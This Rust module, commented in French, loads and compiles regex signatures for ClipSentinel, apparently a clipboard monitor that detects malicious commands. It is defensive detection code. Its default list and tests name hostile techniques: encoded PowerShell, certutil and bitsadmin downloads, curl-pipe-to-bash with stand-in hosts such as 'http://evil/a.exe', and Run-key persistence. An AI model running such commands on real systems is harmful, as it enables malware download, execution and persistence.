// ClipSentinel - Magasin de signatures
// Chargement et compilation des expressions regulieres de detection
//
// Ce module lit le fichier de signatures (une regle par ligne) et
// compile chaque ligne en expression reguliere insensible a la casse.
// La correspondance est une recherche de sous-chaine non ancree :
// la premiere signature qui reconnait le texte suffit.
//
// # Format du fichier
// - Une expression reguliere par ligne
// - `#` commence un commentaire (ligne entiere ou fin de ligne)
// - Les lignes vides sont ignorees
// - Un prefixe `(?i)` optionnel est reconnu et retire (la correspondance
//   est insensible a la casse dans tous les cas)
//
// # Lignes invalides
// Une ligne qui ne compile pas est retentee une fois avec les accolades
// `{` et `}` echappees (cas frequent : fragment de code colle tel quel
// dans le fichier). Si la compilation echoue encore, la ligne est
// ignoree et consignee avec son numero ; ce n'est pas fatal. En
// revanche, zero signature valide est fatal au demarrage.
//
// # Portabilite
// Ce module est en pur Rust (crate regex), sans dependance Win32.

use crate::error::{CsError, CsResult};
use regex::{Regex, RegexBuilder};
use std::fs;
use std::path::Path;

/// Une signature compilee, avec son texte d'origine pour le diagnostic.
#[derive(Debug)]
pub struct Pattern {
    /// Texte de la ligne source (apres nettoyage)
    pub raw: String,
    /// Expression compilee, insensible a la casse
    regex: Regex,
}

/// Ligne de signature ignoree au chargement (regex invalide).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SkippedLine {
    /// Numero de ligne dans le fichier source (base 1)
    pub line_no: usize,
    /// Texte de la ligne apres nettoyage
    pub raw: String,
}

/// Ensemble des signatures chargees au demarrage. Immuable ensuite.
#[derive(Debug)]
pub struct PatternSet {
    patterns: Vec<Pattern>,
    skipped: Vec<SkippedLine>,
}

impl PatternSet {
    /// Charge et compile les signatures depuis un fichier.
    ///
    /// # Errors
    /// - `CsError::PatternSource` : fichier introuvable ou illisible
    /// - `CsError::NoValidPatterns` : aucune ligne n'a compile
    pub fn load(path: &Path) -> CsResult<Self> {
        let text = fs::read_to_string(path)
            .map_err(|e| CsError::PatternSource(format!("{}: {}", path.display(), e)))?;
        Self::from_text(&text)
    }

    /// Compile les signatures depuis le texte d'un fichier.
    pub fn from_text(text: &str) -> CsResult<Self> {
        let mut patterns = Vec::new();
        let mut skipped = Vec::new();

        for (index, line) in text.lines().enumerate() {
            let line_no = index + 1;

            // Retirer le commentaire de fin de ligne puis les espaces
            let raw = match line.find('#') {
                Some(pos) => &line[..pos],
                None => line,
            };
            let mut raw = raw.trim();

            // Retirer le marqueur d'insensibilite a la casse
            if let Some(rest) = raw.strip_prefix("(?i)") {
                raw = rest.trim_start();
            }

            if raw.is_empty() {
                continue;
            }

            if let Some(regex) = compile(raw) {
                patterns.push(Pattern { raw: raw.to_string(), regex });
                continue;
            }

            // Retenter avec les accolades echappees
            let escaped = escape_braces(raw);
            match compile(&escaped) {
                Some(regex) => patterns.push(Pattern { raw: raw.to_string(), regex }),
                None => {
                    tracing::warn!(line = line_no, pattern = raw, "invalid pattern skipped");
                    skipped.push(SkippedLine { line_no, raw: raw.to_string() });
                }
            }
        }

        if patterns.is_empty() {
            return Err(CsError::NoValidPatterns);
        }
        Ok(Self { patterns, skipped })
    }

    /// Verifie si le texte contient au moins une signature.
    ///
    /// Recherche non ancree, arret a la premiere correspondance.
    /// L'ordre des signatures n'influe que sur la latence.
    pub fn matches(&self, text: &str) -> bool {
        self.patterns.iter().any(|p| p.regex.is_match(text))
    }

    /// Nombre de signatures compilees.
    pub fn len(&self) -> usize {
        self.patterns.len()
    }

    /// Vrai si aucune signature n'est chargee (impossible apres `load`).
    pub fn is_empty(&self) -> bool {
        self.patterns.is_empty()
    }

    /// Lignes ignorees au chargement (regex invalides).
    pub fn skipped(&self) -> &[SkippedLine] {
        &self.skipped
    }
}

/// Compile une expression insensible a la casse.
fn compile(raw: &str) -> Option<Regex> {
    RegexBuilder::new(raw).case_insensitive(true).build().ok()
}

/// Echappe les accolades d'une expression candidate.
fn escape_braces(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len() * 2);
    for ch in raw.chars() {
        if ch == '{' || ch == '}' {
            out.push('\\');
        }
        out.push(ch);
    }
    out
}

/// Contenu par defaut du fichier de signatures, ecrit au premier
/// lancement quand aucun fichier n'existe.
pub fn default_patterns_text() -> &'static str {
    r#"# ClipSentinel - Signatures par defaut
# Une expression reguliere par ligne ; correspondance insensible a la casse.
# `#` commence un commentaire, le prefixe (?i) est tolere.

# PowerShell encode ou furtif
powershell\s+-e(nc(odedcommand)?)?\s+[a-z0-9+/=]{8,}
powershell\s+(-nop|-noprofile)\b.*(-w\s+hidden|windowstyle\s+hidden)
iex\s*\(\s*(new-object|iwr|invoke-webrequest)
invoke-expression\s*\(

# Telechargement et execution en une ligne
mshta\s+(https?:|vbscript:|javascript:)
cmd(\.exe)?\s+/c\s+start\s+
rundll32(\.exe)?\s+javascript:
regsvr32\s+/s?\s*/n\s+/u\s+/i:
certutil(\.exe)?\s+-urlcache\s+-split\s+-f
bitsadmin\s+/transfer
curl\s+[^|]*\|\s*(sh|bash|cmd|powershell|iex)
wget\s+[^|]*\|\s*(sh|bash)
wscript(\.exe)?\s+.*\.(js|vbs|wsf)

# Persistance
schtasks\s+/create\s+
reg\s+add\s+"?hk(lm|cu)\\software\\microsoft\\windows\\currentversion\\run
"#
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_load_basic() {
        let set = PatternSet::from_text("badword\nother\\s+thing\n").unwrap();
        assert_eq!(set.len(), 2);
        assert!(set.matches("contains badword here"));
        assert!(set.matches("other   thing"));
        assert!(!set.matches("clean text"));
    }

    #[test]
    fn test_case_insensitive() {
        let set = PatternSet::from_text("powershell\\s+-encodedcommand\n").unwrap();
        assert!(set.matches("powershell -EncodedCommand JABhAGIAYwA="));
        assert!(set.matches("POWERSHELL -ENCODEDCOMMAND XX"));
    }

    #[test]
    fn test_comments_and_blank_lines() {
        let text = "# commentaire\n\n  \nbadword # inline\n";
        let set = PatternSet::from_text(text).unwrap();
        assert_eq!(set.len(), 1);
        assert!(set.matches("badword"));
    }

    #[test]
    fn test_case_marker_stripped() {
        let set = PatternSet::from_text("(?i)BadWord\n").unwrap();
        assert_eq!(set.len(), 1);
        assert!(set.matches("BADWORD"));
        assert!(set.matches("badword"));
    }

    #[test]
    fn test_brace_escape_retry() {
        // `{bar}` n'est pas un quantificateur valide ; la relance avec
        // accolades echappees doit reconnaitre le texte litteral.
        let set = PatternSet::from_text("foo{bar}\n").unwrap();
        assert_eq!(set.len(), 1);
        assert!(set.skipped().is_empty());
        assert!(set.matches("before foo{bar} after"));
    }

    #[test]
    fn test_invalid_line_skipped_with_number() {
        let text = "good\n(unclosed\nalso_good\n";
        let set = PatternSet::from_text(text).unwrap();
        assert_eq!(set.len(), 2);
        assert_eq!(
            set.skipped(),
            &[SkippedLine { line_no: 2, raw: "(unclosed".into() }]
        );
    }

    #[test]
    fn test_no_valid_patterns_is_fatal() {
        assert!(matches!(
            PatternSet::from_text("# rien\n\n"),
            Err(CsError::NoValidPatterns)
        ));
        assert!(matches!(
            PatternSet::from_text("(unclosed\n"),
            Err(CsError::NoValidPatterns)
        ));
    }

    #[test]
    fn test_load_missing_file() {
        let err = PatternSet::load(Path::new("Z:\\nope\\missing_patterns.txt")).unwrap_err();
        assert!(matches!(err, CsError::PatternSource(_)));
    }

    #[test]
    fn test_load_from_tempfile() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("patterns.txt");
        std::fs::write(&path, "mshta\\s+javascript:\n").unwrap();
        let set = PatternSet::load(&path).unwrap();
        assert!(set.matches("mshta javascript:alert(1)"));
    }

    #[test]
    fn test_default_patterns_compile_cleanly() {
        let set = PatternSet::from_text(default_patterns_text()).unwrap();
        assert!(set.skipped().is_empty());
        assert!(set.len() >= 10);
        assert!(set.matches("powershell -EncodedCommand JABhAGIAYwA="));
        assert!(set.matches("certutil -urlcache -split -f http://evil/a.exe a.exe"));
        assert!(set.matches("curl http://x/i.sh | bash"));
        assert!(!set.matches("git commit -m \"message anodin\""));
    }

    #[test]
    fn test_unanchored_match_inside_larger_text() {
        let set = PatternSet::from_text("bitsadmin\\s+/transfer\n").unwrap();
        let text = "echo hello && bitsadmin /transfer job http://x out.exe";
        assert!(set.matches(text));
    }
}
